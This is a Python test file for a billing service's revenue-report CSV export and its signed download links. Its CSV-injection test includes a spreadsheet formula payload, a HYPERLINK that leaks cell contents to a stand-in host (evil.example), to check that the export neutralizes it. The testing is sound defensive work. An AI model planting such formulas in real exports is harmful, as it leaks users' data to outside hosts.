"""The revenue report over HTTP on mongomock and on a real MongoDB wire server (SecantusDB)."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlencode

import pytest

from billing.app import make_app
from billing.bootstrap import Context, bootstrap
from billing.core.config import Settings
from billing.views.reports import Reports
from tests.support.api import Api, Response
from tests.support.report_docs import Ledger
from tests.support.servers import served

pytestmark = pytest.mark.parametrize("mongo_backend", ["mongomock", "secantus"], indirect=True)

MSK = timedelta(hours=3)
NOV = datetime(2025, 11, 15, 12, 0, tzinfo=UTC)  # a month that is over
DEC = datetime(2025, 12, 15, 12, 0, tzinfo=UTC)


@pytest.fixture
def redis_backend() -> str:
    """The report reads MongoDB only: one Redis flavour is enough here."""
    return "fakeredis"


@pytest.fixture
async def ledger(ctx: Context) -> Ledger:
    """Writes ledger documents once the context's projector has made its indexes.

    SecantusDB 0.7.0b3 can hang when createIndexes runs while documents are inserted into the same
    new collection, so the tests wait for the projector's start-up work (drain) before writing.
    """
    await ctx.projector.drain()
    return Ledger(ctx.mongo)


async def link_for(api: Api, month: str, token: str = "tok-accounting", **extra: str) -> dict[str, str]:
    answer = await api.get("/v1/reports/revenue?" + urlencode({"month": month, **extra}), token=token)
    assert answer.status == 200, answer.body
    return answer.json


async def download(api: Api, url: str) -> Response:
    assert url.startswith(api.base_url + "/")
    return await api.get(url[len(api.base_url) :], token=None)


async def report_csv(api: Api, month: str) -> str:
    answer = await download(api, (await link_for(api, month))["url"])
    assert answer.status == 200, answer.body
    return answer.body.decode("utf-8")


def assert_invalid_signature(answer: Response) -> None:
    assert answer.status == 403
    assert answer.content_type == "application/problem+json"
    assert answer.json["code"] == "invalid_signature"


async def test_sums_charges_per_service_excluding_held_and_cancelled_money(api: Api, ledger: Ledger) -> None:
    await ledger.name(1, "Продвижение")
    await ledger.name(2, "Ads")
    await ledger.charge(1, 10_050, NOV)
    await ledger.charge(1, 25, NOV + timedelta(days=3))
    await ledger.partial(1, 10_000, 6_000, NOV)  # 60.00 of 100.00 captured
    await ledger.partial(2, 999, 1, NOV)
    await ledger.cancelled(2, 500_000, NOV)
    await ledger.reserved(2, 700_000, NOV)
    await ledger.cancelled(3, 100, NOV)  # only cancelled: the service has no revenue line at all
    await ledger.charge(2, 123_456, DEC)  # another month
    text = await report_csv(api, "2025-11")
    assert text == "service;total\r\nAds;0.01\r\nПродвижение;160.75\r\n"
    assert await report_csv(api, "2025-12") == "service;total\r\nAds;1234.56\r\n"
    assert await report_csv(api, "2025-10") == "service;total\r\n"


async def test_refunds_net_against_charges_in_the_month_they_happen(api: Api, ledger: Ledger, ctx: Context) -> None:
    await ledger.name(1, "Продвижение")
    await ledger.name(2, "Ads")
    await ledger.name(3, "-Minus")  # a formula-like name: neutralized, the total next to it stays a number
    await ledger.charge(1, 100_00, NOV)
    await ledger.refund(1, 30_00, NOV + timedelta(days=1))
    await ledger.charge(2, 50_00, NOV)
    await ledger.refund(2, 50_00, NOV)  # refunded whole in the same month: a line with 0.00
    await ledger.charge(3, 7_00, NOV)
    await ledger.refund(1, 20_00, DEC)  # November's charge refunded in December: December's revenue
    await ledger.refund(3, 7_00, DEC)
    await ledger.refund(4, 1, DEC)  # only a refund that month, and no catalog name
    await ledger.charge(4, 2, DEC)
    await ledger.refund(4, 3, DEC)
    assert await report_csv(api, "2025-11") == "service;total\r\n'-Minus;7.00\r\nAds;0.00\r\nПродвижение;70.00\r\n"
    december = await report_csv(api, "2025-12")
    assert december == "service;total\r\n'-Minus;-7.00\r\nservice 4;-0.02\r\nПродвижение;-20.00\r\n"
    assert await ctx.reports.totals("2025-12") == [("-Minus", -7_00), ("service 4", -2), ("Продвижение", -20_00)]
    rows = list(csv.reader(io.StringIO(december), delimiter=";"))
    assert [row[1] for row in rows[1:]] == ["-7.00", "-0.02", "-20.00"]


async def test_month_boundary_is_moscow_time(api: Api, ledger: Ledger) -> None:
    await ledger.name(1, "s")
    last_october_evening = datetime(2025, 10, 31, 23, 30, tzinfo=UTC)  # 02:30 on 1 November in Moscow
    await ledger.charge(1, 100, last_october_evening)
    await ledger.charge(1, 20, datetime(2025, 10, 31, 20, 59, 59, 999000, tzinfo=UTC))  # 23:59:59.999 MSK
    await ledger.charge(1, 3, datetime(2025, 11, 30, 20, 59, 59, 999000, tzinfo=UTC))  # still November
    await ledger.charge(1, 4000, datetime(2025, 11, 30, 21, 0, tzinfo=UTC))  # 00:00 on 1 December MSK
    assert await report_csv(api, "2025-10") == "service;total\r\ns;0.20\r\n"
    assert await report_csv(api, "2025-11") == "service;total\r\ns;1.03\r\n"
    assert await report_csv(api, "2025-12") == "service;total\r\ns;40.00\r\n"


async def test_report_tz_setting_is_respected(
    mongo_db: Any, ledger: Ledger, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    await ledger.charge(9, 100, datetime(2025, 10, 31, 23, 30, tzinfo=UTC))
    monkeypatch.setenv("BILLING_REPORT_TZ", "UTC")
    utc = Reports(mongo_db, Settings(secret="x", reports_dir=tmp_path, _env_file=None))
    monkeypatch.setenv("BILLING_REPORT_TZ", "Asia/Vladivostok")  # +10: 09:30 on 1 November
    vladivostok = Reports(mongo_db, Settings(secret="x", reports_dir=tmp_path, _env_file=None))
    assert await utc.totals("2025-10") == [("service 9", 100)]
    assert await utc.totals("2025-11") == []
    assert await vladivostok.totals("2025-11") == [("service 9", 100)]
    # the cache is per zone: the two reports of one month live in different files
    assert utc.cache_path(utc.month("2025-11")) != vladivostok.cache_path(vladivostok.month("2025-11"))


async def test_names_are_quoted_sorted_by_code_point_and_unnamed_services_get_an_id(api: Api, ledger: Ledger) -> None:
    names = {1: 'Ads; "Pro"', 2: "Line\nbreak", 3: "b", 4: "B", 5: "Я", 6: "а", 7: "Z"}
    for service_id, name in names.items():
        await ledger.name(service_id, name)
        await ledger.charge(service_id, service_id * 100, NOV)
    await ledger.charge(77, 5, NOV)
    text = await report_csv(api, "2025-11")
    assert text.startswith('service;total\r\n"Ads; ""Pro""";1.00\r\nB;4.00\r\n"Line\nbreak";2.00\r\n')
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows == [
        ["service", "total"],
        ['Ads; "Pro"', "1.00"],
        ["B", "4.00"],
        ["Line\nbreak", "2.00"],
        ["Z", "7.00"],
        ["b", "3.00"],
        ["service 77", "0.05"],
        ["Я", "5.00"],
        ["а", "6.00"],
    ]


FORMULA_NAMES = {
    1: '=HYPERLINK("http://evil.example/?leak="&A1;"click")',
    2: "+1",
    3: "-2",
    4: "@SUM(1)",
    5: "\tx",
    6: "\rx",
    7: 'Ads; "Pro"',
    8: "a=b",
}


async def test_names_that_spreadsheets_read_as_formulas_are_neutralized(api: Api, ledger: Ledger) -> None:
    """A caller's service name starting with = + - @ TAB CR gets a leading ' (OWASP "CSV Injection");
    quoting stays RFC 4180 and the service's own totals stay numbers."""
    for service_id, name in FORMULA_NAMES.items():
        await ledger.name(service_id, name)
        await ledger.charge(service_id, 123_450 + service_id, NOV)
    text = await report_csv(api, "2025-11")
    assert text.startswith("service;total\r\n'\tx;1234.55\r\n\"'\rx\";1234.56\r\n'+1;1234.52\r\n")
    assert '\r\n"\'=HYPERLINK(""http://evil.example/?leak=""&A1;""click"")";1234.51\r\n' in text
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows == [
        ["service", "total"],
        ["'\tx", "1234.55"],
        ["'\rx", "1234.56"],
        ["'+1", "1234.52"],
        ["'-2", "1234.53"],
        ['\'=HYPERLINK("http://evil.example/?leak="&A1;"click")', "1234.51"],
        ["'@SUM(1)", "1234.54"],
        ['Ads; "Pro"', "1234.57"],
        ["a=b", "1234.58"],
    ]


async def test_a_report_cached_before_neutralizing_is_not_served(api: Api, ctx: Context, ledger: Ledger) -> None:
    await ledger.name(1, "=1+1")
    await ledger.charge(1, 100, NOV)
    old_file = ctx.reports.reports_dir / "revenue-2025-11-Europe_Moscow.csv"  # an older build's cache
    old_file.parent.mkdir(parents=True, exist_ok=True)
    old_file.write_bytes(b"service;total\r\n=1+1;1.00\r\n")
    assert await report_csv(api, "2025-11") == "service;total\r\n'=1+1;1.00\r\n"


async def test_totals_stay_exact_beyond_int64(ctx: Context, ledger: Ledger) -> None:
    await ledger.charge(1, 2**62, NOV)
    await ledger.charge(1, 2**62, NOV)
    await ledger.charge(1, 7, NOV)
    assert await ctx.reports.totals("2025-11") == [("service 1", 2**63 + 7)]


async def test_download_headers_and_bom(api: Api, ledger: Ledger) -> None:
    await ledger.name(1, "Продвижение")
    await ledger.charge(1, 100, NOV)
    link = await link_for(api, "2025-11")
    plain = await download(api, link["url"])
    assert plain.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert plain.headers["Content-Disposition"] == 'attachment; filename="revenue-2025-11.csv"'
    assert plain.body == "service;total\r\nПродвижение;1.00\r\n".encode()
    with_bom = await download(api, link["url"] + "&bom=1")
    assert with_bom.body == b"\xef\xbb\xbf" + plain.body
    signed_with_bom = await link_for(api, "2025-11", bom="1")
    assert (await download(api, signed_with_bom["url"])).body == with_bom.body
    assert (await download(api, link["url"] + "&bom=maybe")).status == 400


async def test_link_shape(api: Api, ctx: Context) -> None:
    before = datetime.now(UTC)
    link = await link_for(api, "2025-11", token="tok-admin")
    assert link["month"] == "2025-11"
    assert link["url"].startswith(f"{api.base_url}/v1/reports/revenue/2025-11.csv?expires=")
    expires_at = datetime.fromisoformat(link["expires_at"].replace("Z", "+00:00"))
    assert timedelta(minutes=59) < expires_at - before <= timedelta(hours=1, seconds=2)
    public = Reports(ctx.mongo, ctx.settings.model_copy(update={"public_url": "https://billing.example.com/"}))
    url = public.signed_link("2025-11", "http://ignored:1")["url"]
    assert url.startswith("https://billing.example.com/v1/reports/revenue/2025-11.csv?expires=")


@pytest.mark.parametrize("tamper", ["signature", "expires", "other_month", "no_signature", "bad_month"])
async def test_tampered_links_are_refused(api: Api, ledger: Ledger, tamper: str) -> None:
    await ledger.charge(1, 100, NOV)
    url = (await link_for(api, "2025-11"))["url"]
    path, query = url[len(api.base_url) :].split("?")
    q = {key: value[0] for key, value in parse_qs(query).items()}
    if tamper == "signature":
        q["signature"] = q["signature"][:-1] + ("0" if q["signature"][-1] != "0" else "1")
    elif tamper == "expires":
        q["expires"] = str(int(q["expires"]) + 3600)
    elif tamper == "other_month":
        path = path.replace("2025-11", "2025-10")
    elif tamper == "no_signature":
        del q["signature"]
    else:
        path = path.replace("2025-11", "2025-13")
    assert_invalid_signature(await api.get(f"{path}?{urlencode(q)}", token=None))


async def test_expired_link_is_refused(api: Api, ctx: Context, ledger: Ledger) -> None:
    await ledger.charge(1, 100, NOV)
    expires = int(datetime.now(UTC).timestamp()) - 1
    signature = ctx.reports.signer.signature("2025-11", expires)
    expired = f"/v1/reports/revenue/2025-11.csv?expires={expires}&signature={signature}"
    answer = await api.get(expired, token=None)
    assert_invalid_signature(answer)
    assert "expired" in answer.json["detail"]
    fresh = f"/v1/reports/revenue/2025-11.csv?expires={expires + 120}&signature="
    fresh += ctx.reports.signer.signature("2025-11", expires + 120)
    assert (await api.get(fresh, token=None)).status == 200  # the same construction, still valid: 200


@pytest.mark.parametrize("month", ["", "2026-13", "2026-00", "1969-12", "99999-01", "2026-1", "2026-11-01"])
async def test_bad_month_is_400(api: Api, month: str) -> None:
    answer = await api.get("/v1/reports/revenue?" + urlencode({"month": month}), token="tok-accounting")
    assert answer.status == 400
    assert answer.json["code"] == "validation_error"
    assert answer.json["errors"][0]["field"] == "month"
    missing = await api.get("/v1/reports/revenue", token="tok-accounting")
    assert missing.status == 400 and missing.json["errors"][0]["field"] == "month"


async def test_roles(api: Api) -> None:
    path = "/v1/reports/revenue?month=2025-11"
    for token in ("tok-accounting", "tok-admin"):
        assert (await api.get(path, token=token)).status == 200
    for token in ("tok-support", "tok-payments", "tok-orders"):
        answer = await api.get(path, token=token)
        assert (answer.status, answer.json["code"]) == (403, "forbidden")
    assert (await api.get(path, token=None)).json["code"] == "unauthenticated"
    assert (await api.get(path, token="nope")).status == 401
    assert (await api.post(path, {}, token="tok-accounting")).status == 405


@asynccontextmanager
async def second_instance(base: Context, reports_dir: Path) -> AsyncIterator[Api]:
    """Another process of the service: same secret, Redis and MongoDB; its own (empty) reports dir."""
    settings = base.settings.model_copy(update={"reports_dir": reports_dir})
    other = await bootstrap(settings, redis=base.redis, mongo=base.mongo)
    await other.start()
    await other.projector.drain()  # its index creation done before the test's requests
    try:
        async with served(make_app(other)) as url:
            client = Api(url)
            try:
                yield client
            finally:
                client.close()
    finally:
        await other.stop()


async def test_link_works_on_another_instance(api: Api, ctx: Context, ledger: Ledger, tmp_path: Path) -> None:
    await ledger.name(1, "Продвижение")
    await ledger.charge(1, 4_200, NOV)
    link = await link_for(api, "2025-11")
    assert (await download(api, link["url"])).status == 200  # the first instance caches the closed month
    other_dir = tmp_path / "other-instance"
    async with second_instance(ctx, other_dir) as other:
        path = link["url"][len(api.base_url) :]
        answer = await other.get(path, token=None)
        assert answer.status == 200
        assert answer.body == "service;total\r\nПродвижение;42.00\r\n".encode()
        assert [p.name for p in other_dir.iterdir()] == ["revenue-2025-11-Europe_Moscow-v2.csv"]
        assert_invalid_signature(await other.get(path.replace("2025-11", "2025-12"), token=None))


async def test_closed_month_is_served_from_its_file(api: Api, ctx: Context, ledger: Ledger) -> None:
    await ledger.charge(1, 100, NOV)
    assert await report_csv(api, "2025-11") == "service;total\r\nservice 1;1.00\r\n"
    cached = ctx.reports.cache_path(ctx.reports.month("2025-11"))
    assert cached.read_bytes() == b"service;total\r\nservice 1;1.00\r\n"
    assert [p.name for p in cached.parent.iterdir()] == [cached.name]  # no temp file left behind
    cached.write_bytes(b"service;total\r\nfrom the file;9.99\r\n")
    assert await report_csv(api, "2025-11") == "service;total\r\nfrom the file;9.99\r\n"
    cached.unlink()
    assert await report_csv(api, "2025-11") == "service;total\r\nservice 1;1.00\r\n"


async def test_current_month_is_never_cached(api: Api, ctx: Context, ledger: Ledger) -> None:
    now = datetime.now(UTC)
    month = (now + MSK).strftime("%Y-%m")
    await ledger.charge(1, 100, now)
    link = await link_for(api, month)
    assert (await download(api, link["url"])).body == b"service;total\r\nservice 1;1.00\r\n"
    await ledger.charge(1, 250, now)
    assert (await download(api, link["url"])).body == b"service;total\r\nservice 1;3.50\r\n"
    if (datetime.now(UTC) + MSK).strftime("%Y-%m") != month:
        pytest.skip("the test ran across a month boundary in Moscow")
    assert not ctx.reports.reports_dir.exists() or not any(ctx.reports.reports_dir.iterdir())


async def test_month_just_over_is_not_cached_during_the_grace_period(ctx: Context, ledger: Ledger) -> None:
    period = ctx.reports.month("2025-11")
    await ledger.charge(1, 100, NOV)
    ctx.reports.clock = lambda: (period.end + timedelta(minutes=1)).timestamp()
    await ctx.reports.csv_bytes("2025-11")
    assert not ctx.reports.cache_path(period).exists()
    ctx.reports.clock = lambda: (period.end + timedelta(hours=1)).timestamp()
    await ctx.reports.csv_bytes("2025-11")
    assert ctx.reports.cache_path(period).exists()


async def test_month_is_not_cached_while_the_projector_lags(ctx: Context, ledger: Ledger) -> None:
    await ledger.charge(1, 100, NOV)
    lag = {"entries": 3, "oldest_age_seconds": 0.5}

    async def probe() -> dict[str, Any]:
        return lag

    ctx.reports.lag_probe = probe
    assert await ctx.reports.csv_bytes("2025-11") == b"service;total\r\nservice 1;1.00\r\n"
    path = ctx.reports.cache_path(ctx.reports.month("2025-11"))
    assert not path.exists()
    lag["entries"] = 0
    await ctx.reports.csv_bytes("2025-11")
    assert path.exists()
